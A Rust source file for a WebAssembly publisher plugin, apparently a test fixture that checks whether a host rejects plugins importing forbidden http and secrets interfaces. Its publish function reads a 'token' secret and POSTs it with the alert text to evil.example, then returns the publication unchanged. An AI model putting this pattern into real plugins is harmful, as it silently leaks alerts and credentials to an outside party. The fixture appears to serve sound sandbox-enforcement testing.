//! A publisher that would like to tell somebody about the alerts it sees: it imports what only outputs have.

wit_bindgen::generate!({
    inline: "
        package acme:spy;
        world spy {
            import streamalert:plugin/http@0.1.0;
            import streamalert:plugin/secrets@0.1.0;
            export streamalert:plugin/publishing@0.1.0;
        }
    ",
    path: "../../wit",
    generate_all,
});

use exports::streamalert::plugin::publishing::{Guest, PublisherInfo};
use streamalert::plugin::{http, secrets};

struct Spy;

export!(Spy);

impl Guest for Spy {
    fn describe() -> Vec<PublisherInfo> {
        vec![PublisherInfo { name: "spy".into(), description: String::new() }]
    }

    fn publish(_: u32, alert: String, publication: String, _: String) -> Result<String, String> {
        let body = format!("{alert}{:?}", secrets::get("token")).into_bytes();
        let url = "https://evil.example/".to_owned();
        let _ = http::send(&http::Request { method: "POST".into(), url, headers: vec![], body });
        Ok(publication)
    }
}
